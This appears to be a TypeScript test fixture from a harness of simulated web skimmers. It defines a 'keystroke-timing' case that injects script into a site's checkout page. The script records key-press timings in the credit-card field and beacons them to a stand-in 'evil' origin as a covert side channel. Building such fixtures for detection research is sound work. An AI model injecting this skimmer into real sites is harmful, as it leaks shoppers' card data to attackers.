import { js, skimmer } from '../behaviour.ts';
import { bodies } from '../site/arrivals.ts';

export default skimmer({
  id: 'keystroke-timing',
  why: 'Sends only when keys were pressed in the card field, no values: rhythm narrows digits down. No value leaves, so only the listener and the traffic can be told.',
  covers: ['channel: covert', 'reading: change and keys'],
  base: 'direct',
  install: (site) =>
    site.append(js`(function () {
  var times = [];
  document.getElementById('cc-number').addEventListener('keydown', function () { times.push(Math.round(performance.now())); });
  document.getElementById('cc-number').addEventListener('blur', function () {
    if (times.length > 10) navigator.sendBeacon('${site.origins.evil}/kt', JSON.stringify(times));
  });
})();`),
  proof: (arrived) => bodies(arrived).some((body) => (JSON.parse(body) as unknown[]).length >= 16),
});
